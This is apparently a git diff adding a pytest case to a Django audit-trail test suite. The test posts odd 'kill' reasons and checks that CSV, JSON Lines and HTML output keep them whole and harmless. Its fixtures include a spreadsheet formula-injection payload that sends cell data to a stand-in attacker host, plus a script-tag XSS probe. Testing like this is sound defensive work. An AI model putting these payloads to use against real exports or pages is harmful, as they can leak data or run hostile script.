@@ -1,11 +1,19 @@
 """The audit trail under twenty writers, crashes, tampering and odd input. On SQLite and on a real PostgreSQL."""
 
+import contextlib
+import csv
+import html
+import io
+import json
 import os
 import subprocess
 import sys
+import uuid
 from collections import defaultdict
 from collections.abc import Iterator
+from decimal import Decimal
 from itertools import groupby
+from pathlib import Path
 
 import pytest
 from django.contrib.auth.models import User
@@ -13,14 +21,16 @@ from django.db import DatabaseError, connection, transaction
 
 from killswitch.access.roles import COMPLIANCE, give_role
 from killswitch.audit.models import Entry, Kind
+from killswitch.kills.decision import MAX_REASON
 from killswitch.kills.models import Kill
 from tests.conftest import ROOT, database_url, wait_for
 
-from .conftest import World
+from .conftest import LogIn, World
 from .person import Person
 from .postgresql import PostgreSQL, as_the_database, find_binaries
 from .stack import Stack
 
+VERIFIER = ROOT / "killswitch" / "audit" / "verify_export.py"
 WRITERS = 20
 APPENDS = 25
 
@@ -145,3 +155,64 @@ def test_a_reader_who_posts_a_kill_is_refused_and_recorded(world: World) -> None
     denied = Entry.objects.get(kind=Kind.DENIED)
     assert (denied.actor_name, denied.sentence) == ("compliance", "compliance may not engage a kill")
     assert denied.data["fields"]["account"] == [str(account)]
+
+
+ODD_REASONS = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"see here")',
+    "<script>alert('x')</script>",
+    "x" * MAX_REASON,
+    "🛑 أوقف 停止 \u202eevil\u2028line",
+    'a "quoted", comma\r\nand a line',
+]
+
+
+@pytest.mark.fault(
+    30,
+    what="reason `=HYPERLINK(…)`, `<script>`, 10,000 characters, emoji, NUL",
+    seen="quoted in CSV, escaped on the page, whole in JSON Lines, or a clear error; the export verifies",
+)
+def test_whatever_the_reason_is_it_is_kept_whole_and_does_no_harm(world: World, log_in: LogIn, tmp_path: Path) -> None:
+    world.stack.broker("--accounts", "0")
+    world.stack.redis()
+    world.stack.worker()
+    address = world.stack.web()
+    desk, compliance = log_in(address, "desk"), reader(world, address)
+    account = world.account(orders=1)
+    kills = [world.click(desk, desk.open_form(account=account) | {"reason": reason}) for reason in ODD_REASONS]
+    refused = desk.send(desk.open_form(account=account) | {"reason": "a\x00b"})
+    assert (refused.status_code, Kill.objects.count()) == (400, len(ODD_REASONS))
+    assert "has a NUL character" in refused.text
+    for kill in kills:
+        world.ended(kill)
+
+    asked = dict(zip(kills, ODD_REASONS, strict=True))
+    lines = tmp_path / "trail.jsonl"
+    lines.write_bytes(compliance.get("/audit/export.jsonl").content)
+    read = [json.loads(line) for line in lines.read_bytes().splitlines()]
+    told = {uuid.UUID(entry["kill_id"]): entry["data"]["reason"] for entry in read if entry["kind"] == "kill.engaged"}
+    assert told == asked
+    checked = subprocess.run([sys.executable, VERIFIER, lines], capture_output=True, text=True, check=False)
+    assert checked.returncode == 0, checked.stdout + checked.stderr
+
+    rows = list(
+        csv.DictReader(io.StringIO(compliance.get("/audit/export.csv").content.decode("utf-8-sig"), newline=""))
+    )
+    engaged = {
+        uuid.UUID(row["kill_id"]): json.loads(row["data"])["reason"] for row in rows if row["kind"] == "kill.engaged"
+    }
+    assert engaged == asked
+    risky = [cell for row in rows for cell in row.values() if cell[:1] in set("=+-@\t\r") and not is_number(cell)]
+    assert risky == []
+
+    for kill, reason in asked.items():
+        page = desk.kill_page(kill)
+        assert "<script>alert" not in page
+        assert html.escape(reason).replace("\r\n", "\n")[:300] in page.replace("\r\n", "\n")
+    entry = next(entry["sequence"] for entry in read if "alert" in entry["sentence"])
+    assert "<script>alert" not in compliance.get(f"/audit/{entry}/").text
+
+
+def is_number(cell: str) -> bool:
+    with contextlib.suppress(ArithmeticError):
+        return Decimal(cell).is_finite()
+    return False
